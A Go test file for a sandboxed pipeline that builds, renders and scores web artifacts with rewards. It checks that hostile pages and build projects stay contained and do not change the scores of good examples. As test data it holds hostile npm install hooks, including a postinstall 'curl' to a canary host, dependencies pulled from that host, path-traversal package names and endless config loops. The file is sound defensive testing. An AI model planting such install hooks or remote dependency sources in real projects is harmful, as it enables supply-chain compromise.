package pipeline

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sync/errgroup"

	"vitrine"
	"vitrine/examples"
	"vitrine/internal/parse"
	"vitrine/internal/sandbox"
)

// TestHostile scores the worst that we can think of beside the examples. Each
// hostile output costs one typed result in bounded time; each example comes out
// with the reward that it has alone; nothing is written, reached or left running.
// The test is the only one at work: it looks at processes.
func TestHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("it takes minutes")
	}
	if err := (sandbox.Sandbox{}).Available(t.Context()); err != nil {
		t.Skipf("there is no seal to be tested: %v", err)
	}
	t.Setenv("VITRINE_CANARY", "secret")
	c := newCanary(t)
	cache := t.TempDir()
	settings := func(s *Settings) {
		s.CacheDir, s.NoCache, s.Concurrency, s.Limits.Command = cache, true, 3, 10*time.Second
	}
	good := demoOutputs(t)

	alone := pipe(t, settings)
	want := scoreAll(t, alone, good)
	alone.Close()
	online := want["project-clinic"].Error == nil
	if !online {
		t.Logf("builds with packages are left out: %v", want["project-clinic"].Error)
	}

	shared, tight := pipe(t, settings), pipe(t, func(s *Settings) {
		settings(s)
		s.Concurrency, s.Limits.Build = 1, tightBuild // the time of a build is then its own
	})
	patient := pipe(t, func(s *Settings) {
		settings(s)
		s.Concurrency, s.Limits.Build = 1, tightBuild // the time of a build is then its own
		s.Limits.Build.Wall, s.Limits.Build.CPU = time.Minute, time.Minute
		s.Limits.Build.Processes = 80 // few enough for Node.js to be too many before it is too big
	})
	var got, built map[string]vitrine.Sample
	var both sync.WaitGroup
	pages := interleave(hostilePages(t, c), good)
	both.Go(func() { got = scoreAll(t, shared, pages) })
	both.Go(func() {
		// Only those that never end are held to so little time that a busy machine would
		// keep the others from meeting the limit that they are about.
		endless, others := byTimeout(hostileBuilds(t, c, online))
		built = scoreAll(t, tight, endless)
		maps.Copy(built, scoreAll(t, patient, others))
	})
	both.Wait()
	for _, j := range pages {
		if s := got[j.id]; s.Error != nil && s.Error.Code == vitrine.FaultStarved {
			t.Logf("%s is scored again, as its fault says: %v", j.id, s.Error)
			maps.Copy(got, scoreAll(t, shared, []job{j}))
		}
	}
	for _, p := range []*Pipeline{shared, tight, patient} {
		p.Close()
	}

	for _, job := range good {
		alone, beside := want[job.id], got[job.id]
		if diff := cmp.Diff(result(alone), result(beside)); diff != "" || fmt.Sprint(rewardOf(alone)) != fmt.Sprint(rewardOf(beside)) {
			t.Errorf("%s: alone it has %v, beside hostile outputs %v\n%s%s %v\n%s", job.id, rewardOf(alone), rewardOf(beside), diff, beside.Why, beside.Error, cmp.Diff(alone.Findings, beside.Findings))
		}
	}
	for table, samples := range map[*map[string]string]map[string]vitrine.Sample{&pageResults: got, &buildResults: built} {
		for id, results := range *table {
			s, ok := samples[id]
			if !ok {
				continue // left out
			}
			if have := result(s); !slices.Contains(strings.Split(results, " "), have) {
				t.Errorf("%s: got %s (%s%v), want %s", id, have, s.Why, s.Error, results)
			}
			if spent := time.Duration(total(s.TimingMS) * 1e6); spent > 5*time.Minute {
				t.Errorf("%s took %s", id, spent)
			}
			t.Logf("%-24s %-30s %6.1f s  %s", id, result(s), total(s.TimingMS)/1e3, s.Why)
		}
	}
	c.check(t, cache)
}

// tightBuild are limits that end a build soon.
var tightBuild = sandbox.Limits{
	Wall: 5 * time.Second, CPU: 6 * time.Second, MemoryBytes: 600 << 20, Processes: 150,
	FileBytes: 64 << 20, DiskBytes: 256 << 20, DiskFiles: 5000,
}

func total(t vitrine.Timing) float64 { return t.Parse + t.Build + t.Capture + t.Judge }

// job is one output to be scored.
type job struct {
	id       string
	output   vitrine.Output
	artifact *vitrine.Artifact // nil: parsed out of the output
}

func demoOutputs(t *testing.T) (jobs []job) {
	t.Helper()
	for line := range bytes.Lines(examples.Demo) {
		var in struct{ ID, Instruction, Output string }
		must(t, json.Unmarshal(line, &in))
		jobs = append(jobs, job{id: in.ID, output: vitrine.Output{ID: in.ID, Instruction: in.Instruction, Text: in.Output}})
	}
	return jobs
}

const hostileDir = "../../testdata/hostile"

// hostilePages are the files of testdata/hostile/pages.
func hostilePages(t *testing.T, c *canary) (jobs []job) {
	t.Helper()
	for id := range pageResults {
		jobs = append(jobs, hostilePage(t, c, id))
	}
	if files, _ := filepath.Glob(filepath.Join(hostileDir, "pages", "*.html")); len(files) != len(jobs) {
		t.Errorf("there are %d hostile pages and results for %d", len(files), len(jobs))
	}
	slices.SortFunc(jobs, func(a, b job) int { return strings.Compare(a.id, b.id) })
	return jobs
}

func hostilePage(t *testing.T, c *canary, id string) job {
	t.Helper()
	source, err := os.ReadFile(filepath.Join(hostileDir, "pages", id+".html"))
	must(t, err)
	a := &vitrine.Artifact{Kind: vitrine.KindPage, Files: []vitrine.File{{Path: "index.html", Content: c.arm(string(source))}}}
	return job{id: id, output: vitrine.Output{ID: id}, artifact: a}
}

func hostileBuild(t *testing.T, c *canary, id string) job {
	t.Helper()
	source, err := os.ReadFile(filepath.Join(hostileDir, "builds", id+".js"))
	must(t, err)
	return c.job(id, map[string]string{"package.json": `{"scripts":{"build":"node build.js"}}`, "build.js": string(source)})
}

// job is a project with the canary's addresses in it.
func (c *canary) job(id string, files map[string]string) job {
	a := &vitrine.Artifact{Kind: vitrine.KindProject}
	for path, content := range files {
		a.Files = append(a.Files, vitrine.File{Path: path, Content: c.arm(content)})
	}
	return job{id: id, output: vitrine.Output{ID: id}, artifact: a}
}

// hostileBuilds are the build scripts of testdata/hostile/builds, package.json
// files that ask for what they should not, and tools with a configuration that
// never ends.
func hostileBuilds(t *testing.T, c *canary, online bool) (jobs []job) {
	t.Helper()
	add := func(id string, files map[string]string) { jobs = append(jobs, c.job(id, files)) }
	scripts, err := filepath.Glob(filepath.Join(hostileDir, "builds", "*.js"))
	must(t, err)
	for _, file := range scripts {
		jobs = append(jobs, hostileBuild(t, c, strings.TrimSuffix(filepath.Base(file), ".js")))
	}
	const tail = `,"scripts":{"build":"mkdir dist && echo x > dist/index.html"}}`
	for id, deps := range map[string]string{
		"asks-url": `{"x":"http://CANARY_HOST/x.tgz"}`, "asks-git": `{"x":"git+ssh://git@CANARY_HOST/x.git"}`, "asks-file": `{"x":"file:../../npm"}`,
		"asks-alias": `{"x":"npm:y@http://CANARY_HOST/y.tgz"}`, "asks-absurd": `{"../../x":"1.0.0","` + strings.Repeat("y", 3000) + `":"*"}`,
	} {
		add(id, map[string]string{"package.json": `{"dependencies":` + deps + tail})
	}
	add("own-install-scripts", map[string]string{"package.json": `{"scripts":{"preinstall":"touch CANARY_PATH/mark","postinstall":"curl http://CANARY_HOST/","prepare":"exit 1","build":"node build.js"}}`,
		"build.js": "require('fs').mkdirSync('dist'); require('fs').writeFileSync('dist/index.html', '<h1>Built well</h1>')"})
	if online {
		clinic := demoArtifact(t, "project-clinic")
		for id, change := range map[string]map[string]string{
			"endless-vite":     {"vite.config.ts": "for (;;);"},
			"endless-tailwind": {"tailwind.config.js": "for (;;);"},
			"silent-vite":      {"vite.config.ts": "process.exit(0);"},
		} {
			files := map[string]string{}
			for _, f := range clinic.Files {
				files[f.Path] = f.Content
			}
			for path, content := range change {
				files[path] = content
			}
			add(id, files)
		}
		add("lock-elsewhere", map[string]string{"package.json": `{"dependencies":{"is-number":"7.0.0"}` + tail,
			"package-lock.json": `{"lockfileVersion":3,"packages":{"":{"dependencies":{"is-number":"7.0.0"}},"node_modules/is-number":{"version":"7.0.0","resolved":"git+http://CANARY_HOST/x.git"}}}`})
	}
	for _, j := range jobs {
		if buildResults[j.id] == "" {
			t.Errorf("there is no result for the build %s", j.id)
		}
	}
	slices.SortFunc(jobs, func(a, b job) int { return strings.Compare(a.id, b.id) })
	return jobs
}

// byTimeout takes the builds that may run out of time from the others.
func byTimeout(all []job) (endless, others []job) {
	for _, j := range all {
		if strings.Contains(buildResults[j.id], "timeout") {
			endless = append(endless, j)
		} else {
			others = append(others, j)
		}
	}
	return endless, others
}

func demoArtifact(t *testing.T, id string) *vitrine.Artifact {
	t.Helper()
	for _, j := range demoOutputs(t) {
		if j.id == id {
			return parse.Output(j.output)
		}
	}
	t.Fatalf("no example %s", id)
	return nil
}

// interleave puts the fewer among the more.
func interleave(more, fewer []job) (all []job) {
	for i, j := range more {
		all = append(all, j)
		for len(fewer) > 0 && (i+1)*len(fewer) >= len(more)-i {
			all, fewer = append(all, fewer[0]), fewer[1:]
			break
		}
	}
	return append(all, fewer...)
}

func scoreAll(t *testing.T, p *Pipeline, jobs []job) map[string]vitrine.Sample {
	t.Helper()
	var mu sync.Mutex
	all := map[string]vitrine.Sample{}
	var group errgroup.Group
	group.SetLimit(p.Concurrency())
	for _, j := range jobs {
		group.Go(func() error {
			s, err := p.ScoreArtifact(context.WithoutCancel(t.Context()), j.output, j.artifact, t.TempDir())
			if err != nil {
				return fmt.Errorf("%s: %w", j.id, err)
			}
			mu.Lock()
			defer mu.Unlock()
			all[j.id] = s.Sample
			return nil
		})
	}
	if err := group.Wait(); err != nil {
		t.Error(err)
	}
	return all
}

func rewardOf(s vitrine.Sample) any {
	if s.Reward == nil {
		return nil
	}
	return *s.Reward
}

// result is what became of a sample, in a word: its outcome with the reason, or
// the code of its fault.
func result(s vitrine.Sample) string {
	switch {
	case s.Error != nil:
		return "unjudged/" + string(s.Error.Code)
	case s.Outcome == vitrine.OutcomeRendered:
		return string(s.Outcome)
	}
	reason, _, _ := strings.Cut(s.Why, ":")
	return string(s.Outcome) + "/" + reason
}
